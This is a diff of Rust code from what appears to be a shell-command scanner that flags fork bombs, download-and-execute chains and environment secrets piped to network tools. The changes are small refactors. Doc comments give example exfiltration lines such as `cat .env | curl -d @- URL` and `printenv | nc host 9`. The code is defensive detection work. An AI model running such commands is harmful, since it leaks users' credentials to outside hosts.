@@ -149,14 +149,14 @@ pub fn check_fork_bomb(text: &str) -> Option<Finding> {
 fn downloads(c: &Simple) -> bool {
     look_through(c).argvs.iter().any(|a| {
         a.first()
-            .is_some_and(|w| DOWNLOADERS.contains(&basename(w).as_str()))
+            .is_some_and(|w| DOWNLOADERS.contains(&&*basename(w)))
     }) || c.substitutions.iter().any(downloads)
 }
 
 fn interprets(c: &Simple) -> bool {
     look_through(c).argvs.iter().any(|a| {
         a.first()
-            .is_some_and(|w| INTERPRETERS.contains(&basename(w).as_str()))
+            .is_some_and(|w| INTERPRETERS.contains(&&*basename(w)))
     })
 }
 
@@ -171,7 +171,7 @@ fn saved_files(c: &Simple) -> Vec<String> {
         return Vec::new();
     };
     let name = basename(first);
-    if !matches!(name.as_str(), "curl" | "wget") {
+    if !matches!(&*name, "curl" | "wget") {
         return Vec::new();
     }
     let args = &c.argv[1..];
@@ -179,7 +179,7 @@ fn saved_files(c: &Simple) -> Vec<String> {
     let mut remote_name = name == "wget";
     for (i, a) in args.iter().enumerate() {
         let value = args.get(i + 1).map(|v| file_name(v));
-        match (name.as_str(), a.as_str()) {
+        match (&*name, a.as_str()) {
             (_, "-o" | "--output" | "--output-document") | ("wget", "-O") => {
                 out.extend(value.filter(|v| v != "-"));
                 remote_name = false;
@@ -244,7 +244,7 @@ pub(super) const SENDERS: &[&str] = &[
 /// elsewhere (`env | curl -d @- URL`, `printenv | nc host 9`, `cat /proc/self/environ |
 /// nc host 9`, `cat .env | curl -d @- URL`, `history | nc host 9`).
 pub fn check_environment_sent(line: &str) -> Option<Finding> {
-    environment_sent_in(&lex::parse(line).commands, 0)
+    environment_sent_in(&lex::parse_shared(line).commands, 0)
 }
 
 /// [`check_environment_sent`] over `cmds`, and the commands of their substitutions.
@@ -260,7 +260,7 @@ fn environment_sent_in(cmds: &[lex::Simple], depth: usize) -> Option<Finding> {
         let whole_env = reads_environment(c);
         // The environment given to a sender inside its words: `wget "http://x/$(env |
         // base64)"`.
-        if SENDERS.contains(&name.as_str()) && c.substitutions.iter().any(reads_environment) {
+        if SENDERS.contains(&&*name) && c.substitutions.iter().any(reads_environment) {
             return Some(finding(
                 Severity::Warn,
                 "secret_read",
@@ -294,10 +294,10 @@ fn environment_sent_in(cmds: &[lex::Simple], depth: usize) -> Option<Finding> {
                 .iter()
                 .take_while(|d| d.pipeline == c.pipeline)
                 .any(|d| {
-                    look_through(d).argvs.iter().any(|a| {
-                        a.first()
-                            .is_some_and(|w| SENDERS.contains(&basename(w).as_str()))
-                    })
+                    look_through(d)
+                        .argvs
+                        .iter()
+                        .any(|a| a.first().is_some_and(|w| SENDERS.contains(&&*basename(w))))
                 });
         sent.then(|| {
             finding(
@@ -317,7 +317,7 @@ fn reads_environment(c: &lex::Simple) -> bool {
     let name = c.argv.first().map(|p| basename(p)).unwrap_or_default();
     let args = c.argv.get(1..).unwrap_or_default();
     (matches!(
-        name.as_str(),
+        &*name,
         "env" | "printenv" | "export" | "set" | "declare" | "history"
     ) && args.iter().all(|a| a.starts_with('-')))
         || super::secrets::shows_environments(&name, args)
@@ -347,7 +347,7 @@ fn download_execute_at(line: &str, depth: usize, budget: &Cell<usize>) -> Option
     if depth > MAX_DEPTH || (depth > 0 && !spend_on_text(budget, line)) {
         return None;
     }
-    let parsed = lex::parse(line);
+    let parsed = lex::parse_shared(line);
     download_executed_in(&parsed.commands, depth, budget)
 }
 
@@ -365,8 +365,8 @@ fn download_executed_in(
         if let Some(f) = download_executed_in(&c.substitutions, depth + 1, budget) {
             return Some(f);
         }
-        for inner in look_through(c).shell_lines {
-            if let Some(f) = download_execute_at(&inner, depth + 1, budget) {
+        for inner in &look_through(c).shell_lines {
+            if let Some(f) = download_execute_at(inner, depth + 1, budget) {
                 return Some(f);
             }
         }
